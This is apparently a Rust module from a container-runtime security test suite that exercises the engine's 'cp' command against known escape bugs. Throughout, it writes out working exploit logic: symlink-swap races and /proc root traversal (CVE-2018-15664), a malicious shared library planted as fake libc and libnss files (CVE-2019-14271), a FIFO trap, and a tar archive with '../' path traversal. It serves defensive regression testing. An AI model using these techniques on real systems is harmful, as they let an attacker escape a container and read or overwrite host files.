//! `cp`, while the container changes what is copied.

use std::{fs, os::unix::fs::symlink, process::Command};

use crate::{
    attack::{Attack, Outcome, Scene},
    files::{Detached, image},
};

const FAMILY: &str = "cp";
const NAIVE: &str = "the path joined to /proc/PID/root";
/// How often a race is run where it is lost every time.
const TIMES: usize = 25;

pub(crate) fn attacks() -> Vec<Attack> {
    let attack = |name: &str, cve, off, act: fn(&Scene) -> Outcome| {
        Attack::new((FAMILY, name), cve, off, move |scene| {
            if scene.target.is_engine() { act(scene) } else { Outcome::Not("it copies nothing".to_owned()) }
        })
    };
    vec![
        attack("out of a directory that changes places with a link", "CVE-2018-15664", NAIVE, |scene| {
            race_out(scene, "d/secret")
        }),
        attack("into a directory that changes places with a link", "CVE-2018-15664", NAIVE, race_in),
        attack("a file that is a link to one of the host's", "CVE-2018-15664", NAIVE, link_out),
        attack("through the container's own /proc", "CVE-2018-15664", NAIVE, through_proc),
        attack("a pipe holds whoever copies it", "", "a plain read", pipe),
        attack(
            "with the container's libraries",
            "CVE-2019-14271",
            "a program with the container's libraries",
            libraries,
        ),
        attack("a name with .. in the archive on standard input", "", "tar -P", archive_in),
    ]
}

/// A container with `/v/d`, a directory, and `/v/link`, a link to the canary, which change places for ever.
fn swapping<'a>(scene: &'a Scene) -> Detached<'a> {
    let script = format!(
        "mkdir -p /v/d; echo mine >/v/d/secret; ln -s {} /v/link; exec /attack/probe swap /v/d /v/link",
        scene.canary().display()
    );
    let container = Detached::start(scene, &[], "bb", &["sh", "-c", &script]);
    container.await_file("/swapping");
    container
}

fn race_out(scene: &Scene, path: &str) -> Outcome {
    let container = swapping(scene);
    let copy = scene.path("copy");
    let root = format!("/proc/{}/root", container.pid());
    let times = if scene.is_on() { TIMES } else { 100_000 };
    for _ in 0..times {
        if scene.is_on() {
            scene.target.engine(&["cp", &format!("{}:/v/{path}", container.name), copy.to_str().expect("UTF-8")]);
        } else if let Ok(text) = fs::read(format!("{root}/v/{path}")) {
            fs::write(&copy, text).expect("write");
        }
        if fs::read_to_string(&copy).is_ok_and(|text| Scene::tells(&text)) {
            return Outcome::Through("read".to_owned());
        }
    }
    Outcome::Stopped(format!("{times} times"))
}

fn race_in(scene: &Scene) -> Outcome {
    let container = swapping(scene);
    let mine = scene.path("new");
    fs::write(&mine, "new").expect("write");
    let root = format!("/proc/{}/root", container.pid());
    let times = if scene.is_on() { TIMES } else { 100_000 };
    for _ in 0..times {
        if scene.is_on() {
            scene.target.engine(&["cp", mine.to_str().expect("UTF-8"), &format!("{}:/v/d/new", container.name)]);
        } else {
            let _ = fs::write(format!("{root}/v/d/new"), "new");
        }
        if !scene.is_canary_intact() {
            return Outcome::Through("written".to_owned());
        }
    }
    Outcome::Stopped(format!("{times} times"))
}

fn link_out(scene: &Scene) -> Outcome {
    let script = format!("ln -s {}/secret /f; ln -s {0} /d; touch /ready; sleep 1000", scene.canary().display());
    let container = Detached::start(scene, &[], "bb", &["sh", "-c", &script]);
    container.await_file("/ready");
    let copy = scene.path("copy");
    let copied = copy.to_str().expect("UTF-8");
    if !scene.is_on() {
        let text = fs::read_to_string(format!("/proc/{}/root/f", container.pid())).unwrap_or_default();
        return Outcome::of(Scene::tells(&text), text);
    }
    let mut all = String::new();
    for arguments in [&["cp", "-L"][..], &["cp"], &["cp", "-a"]] {
        for path in ["/f", "/d/secret", "/d/.", "/d/../secret"] {
            let from = format!("{}:{path}", container.name);
            all += &scene.target.engine(&[arguments, &[&from, copied]].concat()).err;
            all += &scene.target.engine(&[arguments, &[&from, "-"]].concat()).out;
        }
    }
    let mut find = Command::new("grep");
    find.args(["-rs", crate::attack::SECRET]).arg(&copy);
    // A link that was copied as a link leads to the canary by itself.
    let found = find.output().is_ok_and(|found| found.status.success()) && !copy.is_symlink();
    Outcome::of(found || Scene::tells(&all), all)
}

fn through_proc(scene: &Scene) -> Outcome {
    let container = Detached::start(scene, &[], "bb", &["sleep", "1000"]);
    if !scene.is_on() {
        let link = scene.path("root");
        symlink(format!("/proc/{}/root/proc/self/root", container.pid()), &link).expect("symlink");
        let path = format!("/proc/{}/cwd/../../../../../{}/secret", std::process::id(), scene.canary().display());
        return Outcome::of(fs::read_to_string(path).is_ok_and(|text| Scene::tells(&text)), "read");
    }
    let mut all = String::new();
    for way in ["/proc/self/root", "/proc/1/root", "/proc/self/cwd", "/proc/thread-self/root", "/proc/1/cwd"] {
        let from = format!("{}:{way}{}/secret", container.name, scene.canary().display());
        let said = scene.target.engine(&["cp", &from, "-"]);
        all += &(said.out + &said.err);
    }
    Outcome::of(Scene::tells(&all), all)
}

fn pipe(scene: &Scene) -> Outcome {
    let (name, limit) = (scene.path("pipe"), "8");
    let mut command = Command::new("timeout");
    if scene.is_on() {
        let container = Detached::start(scene, &[], "bb", &["sh", "-c", "mkfifo /p; touch /ready; sleep 1000"]);
        container.await_file("/ready");
        let copy = scene.target.command(&["cp", &format!("{}:/p", container.name), name.to_str().expect("UTF-8")]);
        command.arg(limit).arg(copy.get_program()).args(copy.get_args());
        for (key, value) in copy.get_envs() {
            command.env(key, value.unwrap_or_default());
        }
        let status = command.output().expect("timeout").status;
        return Outcome::of(status.code() == Some(124), "it is copied as a pipe");
    }
    nix::unistd::mkfifo(&name, nix::sys::stat::Mode::S_IRWXU).expect("mkfifo");
    let status = command.arg("0.3").arg("cat").arg(&name).output().expect("timeout").status;
    Outcome::of(status.code() == Some(124), "it waits for ever")
}

/// Docker's helper loaded the libraries of the container that it had changed its root to.
fn libraries(scene: &Scene) -> Outcome {
    let source = scene.path("evil.c");
    let text = format!(
        "#include <fcntl.h>\n#include <unistd.h>\n__attribute__((constructor)) static void evil(void)\n\
         {{ close(creat(\"/loaded\", 0600)); close(creat(\"{}/loaded\", 0600)); }}\n",
        scene.canary().display()
    );
    fs::write(&source, text).expect("write");
    let library = scene.path("evil.so");
    let built = Command::new("cc").args(["-shared", "-fPIC", "-o"]).arg(&library).arg(&source).status();
    assert!(built.is_ok_and(|status| status.success()), "cc");
    if !scene.is_on() {
        let loaded = Command::new("ls").arg("/").env("LD_PRELOAD", &library).output();
        let _ = fs::remove_file("/loaded");
        return Outcome::of(loaded.is_ok() && !scene.is_canary_intact(), "loaded");
    }
    let evil = fs::read(&library).expect("the library");
    let names = ["libnss_files.so.2", "libnss_compat.so.2", "libnss_dns.so.2", "libc.so.6", "libpthread.so.0"];
    let image = image(scene, "lib", |mut maker| {
        for directory in ["lib", "lib64", "usr", "usr/lib", "lib/x86_64-linux-gnu"] {
            maker = maker.directory(directory);
            for name in names {
                maker = maker.file(format!("{directory}/{name}"), &evil);
            }
        }
        maker.file("etc/nsswitch.conf", b"passwd: files compat\nhosts: files dns\n")
    });
    let container = Detached::start(scene, &[], &image, &["sleep", "1000"]);
    let copy = scene.path("copy");
    scene.target.engine(&["cp", &format!("{}:/etc", container.name), copy.to_str().expect("UTF-8")]).ok();
    scene.target.engine(&["cp", "-a", copy.to_str().expect("UTF-8"), &format!("{}:/root/etc", container.name)]).ok();
    scene.target.engine(&["export", "-o", scene.path("all.tar").to_str().expect("UTF-8"), &container.name]).ok();
    let inside = container.exec(&["test", "-e", "/loaded"]).code == 0;
    Outcome::of(inside || !scene.is_canary_intact(), "none was loaded")
}

fn archive_in(scene: &Scene) -> Outcome {
    let file = format!("../../../../../../../../..{}/x", scene.canary().display());
    let archive = tests::archive::Maker::default().file(file, b"x").end();
    if !scene.is_on() {
        let path = scene.path("archive.tar");
        fs::write(&path, archive).expect("write");
        let root = scene.path("root");
        fs::create_dir(&root).expect("mkdir");
        let _ = Command::new("tar").arg("-xPf").arg(path).arg("-C").arg(root).output();
        return Outcome::of(!scene.is_canary_intact(), "written");
    }
    let container = Detached::start(scene, &[], "bb", &["sleep", "1000"]);
    let mut command = scene.target.command(&["cp", "-", &format!("{}:/tmp", container.name)]);
    command.stdin(std::process::Stdio::piped());
    let said = tests::engine::said(&tests::engine::output(command, &archive));
    Outcome::of(!scene.is_canary_intact(), said.err)
}
